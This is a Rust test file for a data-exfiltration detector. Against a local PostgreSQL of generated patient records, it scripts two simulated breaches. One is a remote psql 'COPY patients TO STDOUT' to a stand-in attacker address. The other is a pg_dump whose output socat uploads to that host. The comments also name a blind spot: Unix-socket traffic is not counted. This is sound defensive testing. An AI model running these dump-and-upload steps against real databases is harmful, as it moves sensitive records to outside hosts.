//! Scenario 3 of the real-server suite, record exfiltration (the Advanced breach), against a
//! real PostgreSQL holding a `patients` table of 200,000 generated rows:
//!
//! - a remote `psql` at 198.51.100.9 copies the table out (`COPY patients TO STDOUT`): a
//!   `burst` naming `postgresql.service`, the destination and exactly the bytes the server
//!   sent, within 30 s; no `lineage` (the shipped `postgresql` profile reads `records`);
//! - an intruder's shell dumps the database with `pg_dump -Fc` and a program of another
//!   service uploads the dump to 198.51.100.9: every link of the chain the agent sees is
//!   counted exactly; over loopback it is `lineage` naming `records` (the `postgresql`
//!   profile `serves` records: what a backend sends a local client taints the client), raised
//!   within 30 s of pg_dump's start, the only alert. Over the Unix socket it is still missed,
//!   and no test here tries it (the agent counts no Unix-domain traffic; README, "Deploying on
//!   a database server").
//!
//! Why lineage missed it before `serves`: the taint starts at reads of `records` *files* and follows files
//! written by tainted processes. pg_dump reads no records file: the backend does (and its
//! reads are exempt by the `postgresql` profile; served from shared buffers, it reads almost
//! none: 191 KB of records files for a 71 MB `COPY`), and hands the rows to pg_dump over a
//! socket, which is no taint edge. Over loopback TCP the agent has both ends of that
//! transfer, to the byte; over the Unix socket (Debian's default, peer authentication) it
//! counts nothing, as it counts AF_INET and AF_INET6 only.

use std::{
    io::{BufRead as _, BufReader},
    net::{Ipv4Addr, SocketAddr},
    path::PathBuf,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use exfil_tests::{
    Agent, CountingRelay, NetNs, Proc, Resident, ServiceCgroup,
    postgres::{self, Postgres},
    require_root, run_cli, socket_addr, traffic,
};
use serde::Deserialize;

/// Interval records of 2 s: an alert comes at most 2 s (and a poll) after its threshold is
/// crossed.
const INTERVAL: Duration = Duration::from_secs(2);
/// The bound from an attack's start to its alert.
const ALERT_WITHIN: Duration = Duration::from_secs(30);
/// The patients table's size: the 200k rows, about 67 MiB in `COPY` text, above the
/// default burst threshold of 50 MiB in 300 s.
const PATIENTS: u32 = 200_000;
/// Where the records go: the attacker's host in the outside world.
const EXFIL_HOST: &str = "198.51.100.9";
/// The uploader's unit: a service of its own, not the intruder's shell.
const UPLOADER: &str = "exfil-e2e-upload.service";

#[derive(Debug, Clone, Deserialize)]
struct Alert {
    id: u64,
    kind: String,
    service: String,
    destination: String,
    pid: u32,
    comm: String,
    bytes: u64,
    class: Option<String>,
    status: String,
}

fn alerts(agent: &Agent) -> Vec<Alert> {
    agent.alerts()
}

/// Waits up to `within` for an alert that `matches`.
fn wait_for(agent: &Agent, within: Duration, matches: impl Fn(&Alert) -> bool) -> Option<Alert> {
    agent.wait_for_alert(within, matches)
}

/// The namespace with the attacker's host, and the database with its patients.
fn database() -> (NetNs, Postgres) {
    let ns = NetNs::outside().expect("namespace");
    ns.add_host(EXFIL_HOST).expect("the attacker's host");
    let pg = Postgres::start(&ns).expect("postgres");
    let loaded = Instant::now();
    pg.load_patients(PATIENTS).expect("the patients table");
    eprintln!(
        "patients: {} rows, {} bytes of heap, loaded in {:?}",
        pg.sql("SELECT count(*) FROM patients").expect("count"),
        pg.sql("SELECT pg_relation_size('patients')").expect("size"),
        loaded.elapsed()
    );
    (ns, pg)
}

/// A directory of its own under the test target dir (on the disk, where file writes are
/// counted); removed on drop, failed assertion or not.
struct ScratchDir(PathBuf);

impl ScratchDir {
    fn new(name: &str) -> Self {
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("mkdir");
        Self(dir)
    }
}

impl Drop for ScratchDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// The evidence of a run: stops the agent (SIGTERM), asserts that its journal verifies, and
/// returns `report`'s JSON, run with `args` (`--service NAME`).
fn evidence(agent: &mut Agent, args: &[&str]) -> serde_json::Value {
    let status = agent.stop().expect("SIGTERM");
    assert!(status.success(), "{status}");
    let journal = agent.journal_dir().to_str().expect("utf-8").to_owned();
    let (code, verdict, _) = run_cli(&["journal", "verify", &journal]);
    assert_eq!(code, 0, "{verdict}");
    let mut report = vec!["report", &journal, "--format", "json"];
    report.extend_from_slice(args);
    let (code, stdout, stderr) = run_cli(&report);
    assert_eq!(code, 0, "report: {stderr}");
    serde_json::from_str(&stdout).expect("report JSON")
}

/// Runs the attacker's `psql` (`SELECT pg_backend_pid()`, then a `COPY … TO STDOUT`) to its
/// end: the backend's pid and the bytes of rows it printed. Bounded by the relay's timeouts:
/// psql ends when its connection does.
fn copy_out(mut psql: Command) -> (u32, u64) {
    let mut child = psql
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("psql");
    let mut out = BufReader::new(child.stdout.take().expect("stdout"));
    let mut line = String::new();
    out.read_line(&mut line).expect("psql's first line");
    let copied = std::io::copy(&mut out, &mut std::io::sink()).expect("the COPY output");
    let status = child.wait().expect("wait for psql");
    assert!(status.success(), "psql: {status}");
    let backend = line
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("psql's first line is the backend's pid: {line:?}"));
    (backend, copied)
}

#[test]
fn a_remote_copy_of_the_patients_table_is_a_burst_naming_postgresql() {
    require_root();
    let (ns, pg) = database();
    let mut agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
    let attacker: Ipv4Addr = EXFIL_HOST.parse().expect("an address");
    let server = SocketAddr::new(ns.host_ip.parse().expect("an address"), pg.port);
    let relay = CountingRelay::start(&ns, attacker, server).expect("relay");

    // The attacker's psql logs in with the application's password and copies the table out.
    let attack = Instant::now();
    let mut psql = ns.command(&pg.tool("psql"));
    psql.args(["-X", "-A", "-t", "-h", "127.0.0.1", "-p"])
        .arg(relay.port.to_string())
        .args([
            "-c",
            "SELECT pg_backend_pid()",
            "-c",
            "COPY patients TO STDOUT",
        ])
        .envs(pg.client_env());
    let (backend, copied) = copy_out(psql);
    let wire = relay.finish().expect("the relayed connection");
    eprintln!(
        "COPY: {copied} bytes of rows; the server sent {} bytes on the connection and got {}",
        wire.from_server, wire.to_server
    );

    let burst = wait_for(&agent, ALERT_WITHIN.saturating_sub(attack.elapsed()), |a| {
        a.kind == "burst"
    })
    .expect("a burst alert within 30 s of the attack's start");
    let latency = attack.elapsed();
    eprintln!("burst seen {latency:?} after psql started");
    assert!(latency <= ALERT_WITHIN, "{latency:?}");
    assert_eq!(
        (
            burst.service.as_str(),
            burst.destination.as_str(),
            burst.pid,
            burst.comm.as_str(),
            burst.status.as_str()
        ),
        (postgres::UNIT, EXFIL_HOST, backend, "postgres", "firing")
    );
    // Once the last interval is in, the episode holds every byte the server sent.
    let whole = wait_for(&agent, Duration::from_secs(10), |a| {
        a.id == burst.id && a.bytes >= wire.from_server
    })
    .expect("the alert grows to what the server sent");
    assert_eq!(whole.bytes, wire.from_server);
    let flow = agent
        .settled_flow(backend, EXFIL_HOST, pg.port, "tcp", wire.from_server)
        .expect("API")
        .expect("the backend's flow to the attacker");
    assert_eq!(
        (
            flow.service.as_str(),
            flow.direction.as_str(),
            flow.bytes_sent,
            flow.bytes_received
        ),
        (postgres::UNIT, "inbound", wire.from_server, wire.to_server)
    );
    let records_read: u64 = agent
        .files()
        .expect("files")
        .iter()
        .filter(|f| f.pid == backend && f.class == "records")
        .map(|f| f.bytes_read)
        .sum();
    eprintln!("the backend read {records_read} bytes of records files");
    // Two more intervals: nothing else. The backend read records and sent them out, but the
    // shipped `postgresql` profile says reading records is its work: no lineage.
    std::thread::sleep(INTERVAL * 2 + exfil_tests::POLL);
    let all: Vec<(String, String)> = alerts(&agent)
        .into_iter()
        .map(|a| (a.kind, a.service))
        .collect();
    assert_eq!(all, [("burst".to_owned(), postgres::UNIT.to_owned())]);

    // The evidence: an intact journal, and a report naming the service, the destination and
    // the bytes.
    let report = evidence(&mut agent, &[]);
    let to_attacker = report["destinations"]
        .as_array()
        .expect("destinations")
        .iter()
        .find(|d| d["destination"] == EXFIL_HOST)
        .unwrap_or_else(|| panic!("the report names {EXFIL_HOST}: {report}"));
    assert_eq!(
        (
            to_attacker["bytes"].as_u64(),
            to_attacker["services"].clone()
        ),
        (Some(wire.from_server), serde_json::json!([postgres::UNIT]))
    );
    assert_eq!(
        report["alerts"][0]["kind"], "burst",
        "the report lists the alert: {report}"
    );
}

/// The pg_dump chain as it ran: who dumped, who uploaded, and the bytes.
struct DumpChain {
    dump_pid: u32,
    upload_pid: u32,
    dump_size: u64,
    /// What the attacker's sink received.
    received: u64,
    started: Instant,
    /// The intruder's shell and the uploader's service, kept while the agent may still name
    /// their processes.
    _cgroups: [ServiceCgroup; 2],
}

/// The intruder's shell dumps the database with the application's password (`pg_dump -Fc`:
/// compressed, to a file); a few polls later a program of another service uploads the file
/// to the attacker's host. Asserts each link the agent can see exactly: (over loopback) the
/// bytes the backend sent to pg_dump as pg_dump received them, pg_dump's write of the dump,
/// the dump read whole by the uploader, the upload as the sink received it.
fn dump_and_upload(ns: &NetNs, pg: &Postgres, agent: &Agent, dir: &std::path::Path) -> DumpChain {
    let dump = dir.join("clinic.dump");
    let shell = ServiceCgroup::create("exfil-e2e-shell.service").expect("cgroup");
    let mut pg_dump = Command::new(pg.tool("pg_dump"));
    // TCP to 127.0.0.1: both ends of the connection are flows the agent counts. (Over the
    // server's Unix socket, as `sudo -u postgres pg_dump` does, the agent sees nothing: it
    // counts no Unix-domain traffic yet.)
    pg_dump
        .args(["-h", "127.0.0.1", "-p", &pg.port.to_string(), "-Fc", "-f"])
        .arg(&dump)
        .envs(pg.client_env())
        .stdin(Stdio::null());
    shell.place(&mut pg_dump).expect("place pg_dump");
    let started = Instant::now();
    let mut pg_dump = pg_dump.spawn().expect("pg_dump");
    let dump_pid = pg_dump.id();
    let status = loop {
        if let Some(status) = pg_dump.try_wait().expect("wait") {
            break status;
        }
        if started.elapsed() > Duration::from_secs(60) {
            let _ = pg_dump.kill();
            let _ = pg_dump.wait();
            panic!("pg_dump did not finish within 60 s");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(status.success(), "pg_dump: {status}");
    let metadata = std::fs::metadata(&dump).expect("the dump");
    let (dump_size, inode) = (
        metadata.len(),
        std::os::unix::fs::MetadataExt::ino(&metadata),
    );

    // The dump stays in the page cache until it is uploaded, as on a server whose memory
    // is not reclaimed within seconds (this VM's is: see `Resident`).
    let resident = Resident::lock(&dump).expect("the dump held in memory");

    std::thread::sleep(exfil_tests::POLL * 3);
    let uploader = ServiceCgroup::create(UPLOADER).expect("cgroup");
    let (mut sink, port) = traffic!().sink(ns, "tcp", EXFIL_HOST).expect("sink");
    let mut socat = Command::new("socat");
    socat
        .arg("-u")
        .arg(format!("OPEN:{}", dump.display()))
        .arg(format!("TCP:{}", socket_addr(EXFIL_HOST, port)));
    uploader.place(&mut socat).expect("place socat");
    let upload = Proc::spawn(socat, "socat").expect("socat");
    let upload_pid = upload.pid();
    upload.finish().expect("socat uploads the dump");
    drop(resident);
    let received: u64 = sink.expect_line("received").expect("received");
    assert_eq!(received, dump_size);

    // Link 1, over loopback: the backend serving pg_dump sent exactly what pg_dump received.
    let pulled = agent
        .settled(dump_pid, "127.0.0.1", pg.port, "tcp", |f| {
            f.bytes_received > 0
        })
        .expect("API")
        .expect("pg_dump's connection to the server");
    let served: Vec<_> = agent
        .flows()
        .expect("flows")
        .into_iter()
        .filter(|f| {
            f.service == postgres::UNIT
                && f.direction == "inbound"
                && f.destination == "127.0.0.1"
                && f.port == pg.port
        })
        .map(|f| (f.comm, f.bytes_sent, f.bytes_received))
        .collect();
    assert_eq!(
        served,
        [(
            "postgres".to_owned(),
            pulled.bytes_received,
            pulled.bytes_sent
        )],
        "one backend served pg_dump"
    );
    eprintln!(
        "pg_dump received {} bytes from the server over loopback",
        pulled.bytes_received
    );
    // Link 2: pg_dump wrote the dump (its custom format rewrites its table of contents at
    // the end, so it writes a little more than the file holds).
    let upload_flow = agent
        .settled_flow(upload_pid, EXFIL_HOST, port, "tcp", dump_size)
        .expect("API")
        .expect("the upload's flow");
    let files = agent.files().expect("files");
    let written: u64 = files
        .iter()
        .filter(|f| f.pid == dump_pid && f.inode == inode)
        .map(|f| f.bytes_written)
        .sum();
    assert!(
        written >= dump_size,
        "pg_dump's write of the dump is counted whole: {written} < {dump_size}"
    );
    // Link 3: the uploader read all of it, and sent it out.
    let read: u64 = files
        .iter()
        .filter(|f| f.pid == upload_pid && f.inode == inode)
        .map(|f| f.bytes_read)
        .sum();
    assert_eq!(read, dump_size);
    assert_eq!(upload_flow.bytes_sent, received);
    eprintln!(
        "pg_dump wrote {written} bytes into a {dump_size}-byte dump; socat read it and \
         uploaded {received} bytes"
    );
    DumpChain {
        dump_pid,
        upload_pid,
        dump_size,
        received,
        started,
        _cgroups: [shell, uploader],
    }
}

#[test]
fn a_pg_dump_over_loopback_and_its_upload_are_counted_link_by_link() {
    require_root();
    let (ns, pg) = database();
    let agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
    let dir = ScratchDir::new("pg-dump-links");
    dump_and_upload(&ns, &pg, &agent, &dir.0);
}

/// The scenario's expectation: `lineage` naming `records`, the uploader's service, the
/// attacker and exactly the bytes the sink received, within 30 s of pg_dump's start; no other
/// alert; and the evidence: the journal verifies, and `report` names the uploader's service,
/// the attacker and those bytes.
#[test]
fn a_pg_dump_over_loopback_uploaded_by_another_process_is_lineage_naming_records() {
    require_root();
    let (ns, pg) = database();
    let mut agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
    let dir = ScratchDir::new("pg-dump");
    let chain = dump_and_upload(&ns, &pg, &agent, &dir.0);
    let lineage = wait_for(
        &agent,
        ALERT_WITHIN.saturating_sub(chain.started.elapsed()),
        |a| a.kind == "lineage",
    );
    let latency = chain.started.elapsed();
    let lineage = lineage.unwrap_or_else(|| {
        panic!(
            "a lineage alert within 30 s of pg_dump's start (pid {}, dump of {} bytes \
             uploaded by pid {}); alerts after {latency:?}: {:?}",
            chain.dump_pid,
            chain.dump_size,
            chain.upload_pid,
            alerts(&agent)
        )
    });
    eprintln!("lineage seen {latency:?} after pg_dump started");
    assert!(latency <= ALERT_WITHIN, "{latency:?}");
    // Once the upload's last interval is in, the alert holds every byte the sink received.
    let lineage = wait_for(&agent, Duration::from_secs(10), |a| {
        a.id == lineage.id && a.bytes >= chain.received
    })
    .expect("the alert grows to the bytes received");
    assert_eq!(
        (
            lineage.service.as_str(),
            lineage.destination.as_str(),
            lineage.pid,
            lineage.comm.as_str(),
            lineage.bytes,
            lineage.class.as_deref()
        ),
        (
            UPLOADER,
            EXFIL_HOST,
            chain.upload_pid,
            "socat",
            chain.received,
            Some("records")
        )
    );
    // Two more intervals: nothing else. The dump is under `detect.burst.bytes`, the
    // attacker's host no new destination (the agent is still learning), and the backend's
    // bytes to pg_dump stayed on loopback.
    std::thread::sleep(INTERVAL * 2 + exfil_tests::POLL);
    let all: Vec<(String, String, String)> = alerts(&agent)
        .into_iter()
        .map(|a| (a.kind, a.service, a.destination))
        .collect();
    assert_eq!(
        all,
        [(
            "lineage".to_owned(),
            UPLOADER.to_owned(),
            EXFIL_HOST.to_owned()
        )]
    );

    // The evidence: an intact journal, and a report naming the uploader's service, the
    // attacker and the bytes the sink received, and the alert with them.
    let report = evidence(&mut agent, &["--service", UPLOADER]);
    let destinations: Vec<_> = report["destinations"]
        .as_array()
        .expect("destinations")
        .iter()
        .map(|d| {
            (
                d["destination"].as_str().unwrap_or_default(),
                d["bytes"].as_u64(),
                d["services"].clone(),
            )
        })
        .collect();
    assert_eq!(
        destinations,
        [(
            EXFIL_HOST,
            Some(chain.received),
            serde_json::json!([UPLOADER])
        )],
        "{report}"
    );
    let reported: Vec<_> = report["alerts"]
        .as_array()
        .expect("alerts")
        .iter()
        .map(|a| {
            (
                a["kind"].as_str().unwrap_or_default(),
                a["destination"].as_str().unwrap_or_default(),
                a["bytes"].as_u64(),
            )
        })
        .collect();
    assert_eq!(
        reported,
        [("lineage", EXFIL_HOST, Some(chain.received))],
        "{report}"
    );
}
